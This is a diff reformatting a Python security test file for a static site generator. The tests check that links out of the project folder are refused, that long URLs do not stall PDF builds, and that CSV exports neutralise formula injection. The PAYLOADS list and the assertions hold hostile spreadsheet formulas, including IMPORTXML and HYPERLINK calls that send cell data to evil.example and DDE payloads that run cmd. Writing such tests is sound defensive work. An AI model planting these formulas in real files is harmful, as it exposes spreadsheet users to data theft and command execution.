@@ -49,14 +49,17 @@ def _link(project: Path, where: str, secret: Path) -> None:
         path.symlink_to(secret)
 
 
-@pytest.mark.parametrize("where", [
-    "content/briefings/2024-11-03.md",  # a lede: once printed on the day page and into the feeds
-    "content/events/2024/11/passwd.yaml",  # an event file
-    "content/pages/leak.png",  # a page asset: once copied into site/ byte for byte
-    "content/pages/leak.md",  # a hand-written page
-    "content/events/2024/12",  # a linked folder: once skipped without a word
-    "templates/pages/day.html.j2",  # a template override
-])
+@pytest.mark.parametrize(
+    "where",
+    [
+        "content/briefings/2024-11-03.md",  # a lede: once printed on the day page and into the feeds
+        "content/events/2024/11/passwd.yaml",  # an event file
+        "content/pages/leak.png",  # a page asset: once copied into site/ byte for byte
+        "content/pages/leak.md",  # a hand-written page
+        "content/events/2024/12",  # a linked folder: once skipped without a word
+        "templates/pages/day.html.j2",  # a template override
+    ],
+)
 def test_a_link_out_of_the_project_stops_check_and_build_and_publishes_nothing(case, tmp_path, capsys, where):
     project = case("site")
     secret = write_secret(tmp_path)
@@ -86,8 +89,9 @@ def test_a_hard_link_to_a_file_outside_is_refused(case, tmp_path, capsys):
 def test_a_theme_folder_outside_the_project_is_refused(case, capsys):
     project = case("site")
     config = project / "mkdocs.yml"
-    config.write_text(config.read_text(encoding="utf-8").replace("  name: material\n",
-                                                                 "  name: material\n  custom_dir: ../../\n"))
+    config.write_text(
+        config.read_text(encoding="utf-8").replace("  name: material\n", "  name: material\n  custom_dir: ../../\n")
+    )
     assert main(["check", "-f", str(config)]) == 1
     assert ":1:1: is outside the project folder" in capsys.readouterr().out
 
@@ -99,10 +103,16 @@ def _accepted(project: Path, length: int) -> bool:
     source = project / "content/sources/wire.yaml"
     text = source.read_text(encoding="utf-8")
     url = "https://example.org/" + "x" * (length - len("https://example.org/"))
-    source.write_text("\n".join(line for line in text.splitlines() if not line.startswith("url:"))
-                      + f"\nurl: {url}\n", encoding="utf-8")
-    done = subprocess.run([sys.executable, "-m", "generator.cli", "check", "-f", str(project / "mkdocs.yml")],
-                          capture_output=True, text=True, timeout=120)
+    source.write_text(
+        "\n".join(line for line in text.splitlines() if not line.startswith("url:")) + f"\nurl: {url}\n",
+        encoding="utf-8",
+    )
+    done = subprocess.run(
+        [sys.executable, "-m", "generator.cli", "check", "-f", str(project / "mkdocs.yml")],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     return done.returncode == 0
 
 
@@ -137,14 +147,29 @@ def test_the_worst_input_check_accepts_makes_a_pdf_in_seconds(case):
     config = project / "mkdocs.yml"
     config.write_text(config.read_text(encoding="utf-8").replace("enabled: false", "enabled: true"))
     _worst_allowed(project, longest)
-    assert subprocess.run([sys.executable, "-m", "generator.cli", "check", "-f", str(config)],
-                          capture_output=True, timeout=120).returncode == 0, "the input must be allowed"
+    assert (
+        subprocess.run(
+            [sys.executable, "-m", "generator.cli", "check", "-f", str(config)], capture_output=True, timeout=120
+        ).returncode
+        == 0
+    ), "the input must be allowed"
     started = time.perf_counter()
     try:
         done = subprocess.run(
-            [sys.executable, "-m", "generator.cli", "pdf", "2024-11-05", "-f", str(config), "-o",
-             str(project / "b.pdf")],
-            capture_output=True, text=True, timeout=120,
+            [
+                sys.executable,
+                "-m",
+                "generator.cli",
+                "pdf",
+                "2024-11-05",
+                "-f",
+                str(config),
+                "-o",
+                str(project / "b.pdf"),
+            ],
+            capture_output=True,
+            text=True,
+            timeout=120,
         )
     except subprocess.TimeoutExpired:
         pytest.fail(f"a brief with {longest:,}-character URLs took more than 120 s")
@@ -178,7 +203,7 @@ PAYLOADS = [
     "\n=1+1",
     '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
     '=WEBSERVICE("http://evil.example")',
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    '=DDE("cmd";"/C calc";"!A0")',
     "\uff1d1+1",
 ]
 FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
@@ -210,11 +235,14 @@ def test_every_csv_cell_of_the_hostile_corpus_is_text_for_a_spreadsheet(case, ca
         assert main(["export", fmt, "-f", str(project / "mkdocs.yml")]) == 0
         cells += _csv_cells(capsysbinary.readouterr().out)
     # A negative number (a longitude west of Greenwich) is a number to a spreadsheet, and stays one.
-    formulas = [c for c in cells if (c.lstrip().startswith(FORMULA) or c.startswith(FORMULA))
-                and not re.fullmatch(r"-\d+(\.\d+)?", c)]
+    formulas = [
+        c
+        for c in cells
+        if (c.lstrip().startswith(FORMULA) or c.startswith(FORMULA)) and not re.fullmatch(r"-\d+(\.\d+)?", c)
+    ]
     assert formulas == [], formulas
     guarded = [c for c in cells if c.startswith("'")]
-    assert "' =HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")" in guarded
+    assert '\' =HYPERLINK("http://evil.example/?leak="&A1,"click")' in guarded
     assert "'@SUM(1+1)*cmd|' /C calc'!A0" in guarded
     assert any(c.startswith("'=WEBSERVICE(") for c in guarded)
     assert "'+1+cmd|' /C calc'!A0" in guarded  # a place name
